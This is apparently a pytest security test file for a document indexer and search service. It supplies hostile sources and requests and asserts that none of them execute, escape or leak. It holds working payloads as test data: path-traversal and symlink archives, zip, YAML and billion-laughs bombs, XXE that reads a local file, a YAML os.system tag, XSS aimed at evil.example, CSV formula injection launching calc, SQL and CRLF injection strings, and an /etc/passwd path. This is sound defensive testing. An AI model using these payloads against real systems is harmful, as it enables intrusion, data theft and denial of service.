"""What an attacker may put into a source or send to the service: a test each. Nothing is executed, nothing escapes,
nothing goes down."""

import io
import json
import os
import re
import tarfile
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from docx import Document as WordDocument
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from indexer.domain.content import ItemState
from indexer.embedding.hashing import HashingEncoder
from indexer.home import Home
from indexer.pipeline import reindex
from indexer.settings import load_settings
from indexer.store import documents, items
from service.app import create_app
from service.auth import ANONYMOUS, readable_audiences
from service.cli import app as command
from service.settings import ServiceSettings
from tests.fakes import write_settings, write_thread

LOOSE = {"known": 0.0, "read": 0.0, "ask": 0.0}
OUTSIDE = "the key of the outer door is under the mat"
EVIL_NAMES = ("../escaped.md", "/absolute.md", "a/../../b.md", "..\\windows.md", "C:\\drive.md", "line\nbreak.md")
ODD_NAMES = ("\u202egnp.md", "zero\u200bwidth.md", "\x1b[31mred.md", "'; DROP TABLE documents; --.md", "%2e%2e%2f.md")
LAUGHS = "".join('<!ENTITY l{} "{}">'.format(n, f"&l{n - 1};" * 10) for n in range(1, 12))
BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><meta><title>&l11;</title></meta>'
THIEF = '<!DOCTYPE x [<!ENTITY t SYSTEM "file://{file}">]><meta><title>Thief &t;</title></meta>'
YAML_BOMB = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
)
YAML_CODE = "---\ntitle: !!python/object/apply:os.system ['touch {mark}']\n---\nA page on code in YAML.\n"
SCRIPTS = """# Hello <script>steal()</script>

<img src=x onerror="steal()"> <svg onload=steal()> <iframe src="https://evil.example"></iframe>
[click](javascript:steal) [data](data:text/html;base64,PHNjcmlwdD4=) <a href="java&#10;script:steal()">x</a>
<meta http-equiv="refresh" content="0;url=https://evil.example"> <base href="https://evil.example/">
<style>body{display:none}</style> <form action="https://evil.example"><input name=password></form>
Brakes squeal {{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>
"""
FORMULAS = ('=HYPERLINK("https://evil.example";"Brakes")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3")
LONG_WORD = "brake" * 40_000
ODD_TEXT = "Brakes \u202e\u2066 squeal \u0000\ufffe\U000e0001 \u200d" + "\u0301" * 3_000 + " 𝓫𝓻𝓪𝓴𝓮𝓼 ＢＲＡＫＥＳ"


class Hostile:
    """A home made from hostile sources, as a visitor sees it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.mark = folder / "executed"
        self.outside = folder / "outside.md"
        self.outside.write_text(f"# Secret\n\n{OUTSIDE}\n")
        sources = [
            {"name": "zip", "kind": "folder", "path": str(self._zip())},
            {"name": "tar", "kind": "folder", "path": str(self._tar())},
            {"name": "library", "kind": "folder", "path": str(self._library())},
            {
                "name": "described",
                "kind": "folder",
                "path": str(self._described()),
                "include": ["*.md"],
                "sidecar": {"file": "{stem}.*ml", "fields": {"title": "title", "authors": "a11"}},
            },
            {"name": "rows", "kind": "table", "path": str(self._table()), "id": "id", "text": ["text"]}
            | {"fields": {"title": "title", "authors": "author", "community": "community", "url": "url"}},
            {"name": "chat", "kind": "threads", "path": str(self._chat())},
        ]
        parsing = {"workers": 1, "memory_megabytes": 512, "timeout_seconds": 20}
        self.config = write_settings(folder, sources, parsing=parsing, verdict=LOOSE, search={"page_size": 50})
        self.settings = load_settings(ServiceSettings, self.config)
        self.home = Home(self.settings.home)
        self.before = set(folder.rglob("*"))
        self.result = reindex(self.home, HashingEncoder(), self.settings, self.settings.sources)
        app = create_app(self.settings, self.home, HashingEncoder())
        app.state.parts.index.load_model()
        self.client = TestClient(app, base_url="http://127.0.0.1:8000", raise_server_exceptions=False)
        self.queue = app.state.parts.queue
        with self.home.database.read() as transaction:
            readable = readable_audiences(transaction, ANONYMOUS)
            self.documents = documents.list_documents(transaction, readable.ids, limit=1_000)
            self.reports = {(entry.source, entry.uri): entry for entry in items.report_items(transaction, ItemState)}
            self.texts = "\n".join(
                block.text for entry in self.documents for block in documents.read_blocks(transaction, entry.id)
            )

    def close(self) -> None:
        self.queue.close()
        self.home.close()

    def pages(self) -> Iterator[str]:
        """The addresses of all pages that show what came from the sources."""
        yield from ("/", "/communities", "/?q=brakes", "/?q=brakes&explain=1", "/shortlist?text=brakes")
        yield from (f"/documents/{entry.public_id}" for entry in self.documents)
        answer = self.client.get("/api/v1/search", params={"q": "brakes", "limit": 50}).json()
        yield from (f"/people/{person['id']}" for person in answer["people"])
        yield from (f"/communities/{entry['slug']}" for entry in answer["communities"])

    def _zip(self) -> Path:
        archive = self.folder / "evil.zip"
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
            for name in (*EVIL_NAMES, *ODD_NAMES):
                file.writestr(zipfile.ZipInfo(name), "# Brakes\n\nBrakes of an evil name.\n")
            link = zipfile.ZipInfo("link.md")
            link.external_attr = 0o120777 << 16
            file.writestr(link, str(self.outside))
            file.writestr("bomb.txt", b"0" * (80 * 2**20))
            file.writestr("bomb.docx", self._word_bomb())
            file.writestr("laughing.docx", self._laughing_word())
        return archive

    def _word_bomb(self) -> bytes:
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr("[Content_Types].xml", b" " * (400 * 2**20))
        return inner.getvalue()

    def _laughing_word(self) -> bytes:
        plain, evil = io.BytesIO(), io.BytesIO()
        WordDocument().save(plain)
        with zipfile.ZipFile(plain) as source, zipfile.ZipFile(evil, "w") as target:
            for name in source.namelist():
                content = source.read(name)
                if name == "word/document.xml":
                    laughs = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'.encode()
                    content = content.replace(b"<w:document", laughs + b"<w:document", 1)
                    content = content.replace(b"<w:sectPr", b"<w:p><w:r><w:t>&l11;</w:t></w:r></w:p><w:sectPr", 1)
                target.writestr(name, content)
        return evil.getvalue()

    def _tar(self) -> Path:
        archive = self.folder / "evil.tar"
        with tarfile.open(archive, "w") as file:
            for name in EVIL_NAMES:
                content = b"# Brakes\n\nBrakes in a tar.\n"
                info = tarfile.TarInfo(f"{name}")
                info.size = len(content)
                file.addfile(info, io.BytesIO(content))
            for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
                info = tarfile.TarInfo(f"special-{kind.decode()}.md")
                info.type, info.linkname = kind, str(self.outside)
                file.addfile(info)
        return archive

    def _library(self) -> Path:
        library = self.folder / "library"
        library.mkdir()
        (library / "link.md").symlink_to(self.outside)
        (library / "round").symlink_to(library)
        os.mkfifo(library / "pipe.md")
        (library / "scripts.md").write_text(SCRIPTS)
        (library / "scripts.html").write_text(f"<html><head><title>Brakes</title></head><body>{SCRIPTS}</body></html>")
        (library / "code.md").write_text(YAML_CODE.format(mark=self.mark))
        (library / "bomb.md").write_text(f"---\n{YAML_BOMB}---\nBrakes and YAML.\n")
        (library / "title.md").write_text('---\ntitle: "Brakes\\"><script>steal()</script>"\n---\nBrakes.\n')
        (library / "long.md").write_text(f"# Long\n\n{LONG_WORD}\n")
        (library / "odd.md").write_text(ODD_TEXT)
        (library / "deep.md").write_text("> " * 5_000 + "brakes\n\n" + "- " * 5_000 + "brakes\n")
        (library / "deep.html").write_text("<div>" * 20_000 + "brakes" + "</div>" * 20_000)
        (library / "mail.eml").write_bytes(
            b"From: =?utf-8?q?Eve=0D=0ABcc=3A_all=40example=2Eorg?= <eve@example.org>\n"
            b"Subject: =?utf-8?q?Brakes=0D=0ASet-Cookie=3A_evil=3D1?=\n"
            b"Date: Mon, 3 Mar 2025 10:00:00 +0000\n\nBrakes.\n"
        )
        return library

    def _described(self) -> Path:
        described = self.folder / "described"
        described.mkdir()
        for name, description in {
            "laughs.xml": BILLION,
            "thief.xml": THIEF.format(file=self.outside),
            "bomb.yaml": YAML_BOMB,
        }.items():
            (described / name).write_text(description)
            (described / f"{Path(name).stem}.md").write_text("# Brakes\n\nDescribed brakes.\n")
        return described

    def _table(self) -> Path:
        table = self.folder / "rows.csv"
        rows = ["id,title,author,community,url,text"]
        for number, formula in enumerate(FORMULAS):
            quoted = '"' + formula.replace('"', '""') + '"'
            rows.append(
                f"{number},{quoted},{quoted},{quoted},javascript:steal(),Brakes {quoted[1:-1].replace(',', '')}"
            )
        table.write_text("\n".join(rows))
        return table

    def _chat(self) -> Path:
        chat = self.folder / "chat.jsonl"
        odd = [
            write_thread(
                "t1", "Brakes <b>bold</b>", ("<script>", "Brakes <script>steal()</script>"), url="javascript:x"
            ),
            '{"id": "deep", "messages": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
            '{"id": "nan", "messages": [{"number": NaN, "author": "x", "at": 1e999, "text": "Brakes"}]}\n',
            '{"id": "huge", "messages": [{"number": ' + "9" * 5_000 + ', "author": "x", "text": "a"}]}\n',
            '{"id": "surrogate", "messages": [{"author": "\\udfff", "text": "Brakes \\ud83d \\ud800"}]}\n',
            json.dumps({"id": "likes", "messages": [{"author": "x", "text": "Brakes", "likes": 10**40}]}) + "\n",
        ]
        chat.write_text("".join(odd))
        return chat


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = Hostile(tmp_path_factory.mktemp("hostile"))
    yield home
    home.close()


# Sources


def test_hostile_items_cost_themselves_and_no_source(hostile: Hostile) -> None:
    assert [source.error for source in hostile.result.sources] == [None] * 6
    assert len(hostile.documents) > 20


def test_nothing_is_written_or_executed_outside_the_home(hostile: Hostile) -> None:
    home = hostile.settings.home
    new = {file for file in hostile.folder.rglob("*") if home not in (file, *file.parents)} - hostile.before
    assert new == set()
    assert not hostile.mark.exists()
    assert not (hostile.folder.parent / "escaped.md").exists()


def test_no_name_in_an_archive_leads_out_of_it(hostile: Hostile) -> None:
    assert OUTSIDE not in hostile.texts
    assert not any("link.md" in entry.uri or "special" in entry.uri for entry in hostile.documents)
    names = {entry.uri for entry in hostile.documents if entry.source == "zip"}
    assert "absolute.md" in names  # a name only: nothing is ever opened by it
    assert not any(".." in name.split("/") for name in names)


def test_bombs_are_refused_with_the_reason(hostile: Hostile) -> None:
    for uri in ("bomb.txt", "bomb.docx"):
        found = hostile.reports["zip", uri]
        assert found.state is ItemState.SKIPPED, found
        assert "MB" in (found.reason or "")


def test_entities_are_neither_expanded_nor_fetched(hostile: Hostile) -> None:
    told = "".join(entry.title for entry in hostile.documents) + hostile.texts
    assert "haha" not in told
    assert OUTSIDE not in told
    titles = {entry.uri: entry.title for entry in hostile.documents if entry.source == "described"}
    assert all(len(title) < 500 for title in titles.values())


def test_yaml_makes_no_objects_and_no_avalanche(hostile: Hostile) -> None:
    assert hostile.reports["library", "code.md"].state is ItemState.PARTIAL
    assert all(len(entry.title) < 1_000 for entry in hostile.documents)


def test_formulas_stay_text(hostile: Hostile) -> None:
    titles = {entry.title for entry in hostile.documents if entry.source == "rows"}
    assert set(FORMULAS) <= titles


# Pages


class Dangers(HTMLParser):
    """What a browser would execute or load in a page, other than our own style sheet and script."""

    OWN = frozenset({"/static/knowwho.css", "/static/knowwho.js", "data:,"})
    HOLDING = frozenset({"src", "href", "action", "formaction", "data", "poster", "background", "srcset", "ping"})

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "style", "img") or (tag == "meta" and "http-equiv" in values):
            self.found.append(f"<{tag}>")
        if tag == "script" and values.get("src") not in self.OWN:
            self.found.append("<script>")
        for name, value in values.items():
            scheme = re.sub(r"[\s\x00-\x20]", "", value).partition(":")[0].casefold()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}")
            if (
                name in self.HOLDING
                and ":" in value
                and value not in self.OWN
                and scheme in ("javascript", "data", "vbscript")
            ):
                self.found.append(f"{tag} {name}={value}")
            if name == "action" and not value.startswith("/"):
                self.found.append(f"{tag} {name}={value}")


def test_no_page_executes_or_loads_what_a_source_says(hostile: Hostile) -> None:
    seen = 0
    for path in hostile.pages():
        response = hostile.client.get(path)
        assert response.status_code == 200, path
        assert Dangers(response.text).found == [], path
        assert "script-src 'self'" in response.headers["content-security-policy"]
        assert ">49<" not in response.text
        seen += 1
    assert seen > 25


def test_templates_in_a_source_are_text(hostile: Hostile) -> None:
    scripts = next(entry for entry in hostile.documents if entry.uri == "scripts.md")
    assert "{{ 7 * 7 }}" in hostile.client.get(f"/documents/{scripts.public_id}").text


def test_the_command_line_prints_no_control_characters(hostile: Hostile) -> None:
    runner = CliRunner()
    for words in (["report"], ["search", "brakes", "--limit", "100"], ["source", "list"]):
        told = runner.invoke(command, ["--config", str(hostile.config), *words])
        assert told.exit_code in (0, 1, 3), told.output
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b\u202a-\u202e\u2066-\u2069]", told.output), words


# Requests

INJECTIONS = (
    "' OR 1=1 --",
    '"; DROP TABLE documents; --',
    "') UNION SELECT password FROM accounts --",
    "brakes\r\nSet-Cookie: evil=1",
    "%0d%0aSet-Cookie:%20evil=1",
    "NEAR(a b) OR * AND NOT (",
    "title:brakes^9999 ~0.00001 [a TO b]",
    "{{7*7}}${7*7}#{7*7}",
    "../../../../etc/passwd\x00.md",
    "\ud800 brakes",
    "\u202e\u0000\ufffe",
    "b" * 1_999,
    "ﷺ" * 600,
    "e" + "\u0301" * 1_500,
)
ENTRANCES: tuple[tuple[str, dict[str, Any]], ...] = (
    ("/", {"q": "{}"}),
    ("/", {"q": "brakes", "community": "{}"}),
    ("/", {"q": "brakes", "kind": "{}", "since": "{}"}),
    ("/", {"q": "brakes", "cursor": "{}"}),
    ("/shortlist", {"text": "{}"}),
    ("/api/v1/search", {"q": "{}"}),
    ("/api/v1/search", {"q": "brakes", "community": "{}"}),
    ("/api/v1/search", {"q": "brakes", "until": "{}"}),
    ("/api/v1/search", {"q": "brakes", "cursor": "{}"}),
    ("/api/v1/people", {"q": "{}"}),
    ("/api/v1/feedback", {"query": "{}", "voter": "{}"}),
)


@pytest.mark.parametrize("evil", INJECTIONS, ids=range(len(INJECTIONS)))
def test_what_is_injected_into_a_request_is_only_words(hostile: Hostile, evil: str) -> None:
    count = len(hostile.client.get("/api/v1/search", params={"q": "brakes", "limit": 100}).json()["passages"])
    sent = evil.encode("utf-8", "replace").decode()
    for path, query in ENTRANCES:
        response = hostile.client.get(path, params={name: value.replace("{}", sent) for name, value in query.items()})
        assert response.status_code in (200, 422), (path, query, response.text[:300])
        assert "set-cookie" not in response.headers or "evil" not in response.headers["set-cookie"]
        if response.headers["content-type"].startswith("text/html"):
            assert Dangers(response.text).found == []
    for path in ("/documents/{}", "/people/{}", "/communities/{}", "/api/v1/documents/{}", "/api/v1/people/{}"):
        quoted = path.replace("{}", "".join(f"%{byte:02x}" for byte in sent.encode()))
        assert hostile.client.get(quoted).status_code in (404, 422), quoted[:80]
    body = {"query": evil, "document": evil, "useful": True, "voter": evil[:64]}
    given = hostile.client.post(
        "/api/v1/feedback", content=json.dumps(body), headers={"Content-Type": "application/json"}
    )
    assert given.status_code in (404, 422), given.text
    after = hostile.client.get("/api/v1/search", params={"q": "brakes", "limit": 100}).json()["passages"]
    assert len(after) == count


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[" * 100_000,
        b'{"text": ' * 20_000,
        b'{"text": "\\ud800", "people": ["x"]}',
        b'{"text": 1e999, "people": null}',
        b'{"text": "a", "people": ["' + b"x" * 500_000 + b'"]}',
        b"\xff\xfe\x00",
        json.dumps({"text": "a", "people": ["x"] * 50_000}).encode(),
        b'{"text": "a", "text": "b", "people": ["\\u0000"]}',
        b'{"text": ' + b"9" * 6_000 + b', "people": []}',
    ],
    ids=range(11),
)
def test_a_hostile_body_is_refused(hostile: Hostile, body: bytes) -> None:
    headers = {"Content-Type": "application/json"}
    response = hostile.client.post("/api/v1/people/shortlist", content=body, headers=headers)
    assert response.status_code in (400, 413, 422), response.text[:300]
    assert response.headers["content-type"] == "application/problem+json"


def test_very_long_questions_are_refused_by_name(hostile: Hostile) -> None:
    response = hostile.client.get("/api/v1/search", params={"q": "brake " * 5_000})
    assert response.status_code == 422
    assert "q" in response.json()["detail"]


def test_secrets_of_the_settings_are_in_no_error(tmp_path: Path) -> None:
    """A settings file that cannot be read is quoted by YAML's own messages, keys and all."""
    secret = "hunter2-is-not-a-password"
    runner = CliRunner()
    for text in (
        f"sources: [{{name: f, kind: forum, address: 'https://f.example', api_key: {secret}, oops",
        yaml.safe_dump({"sources": [{"name": "f", "kind": "forum", "api_key": secret, "wrong": 1}]}),
        f"access: {{providers: [{{name: sso, client_secret: [{secret}]}}]}}",
        f"jobs: {{database: 'postgresql+psycopg://me:{secret}@localhost/x', keep_days: none}}",
    ):
        file = tmp_path / "knowwho.yaml"
        file.write_text(text)
        told = runner.invoke(command, ["--config", str(file), "source", "list"])
        assert told.exit_code != 0
        assert secret not in told.output
        assert secret not in str(told.exception)
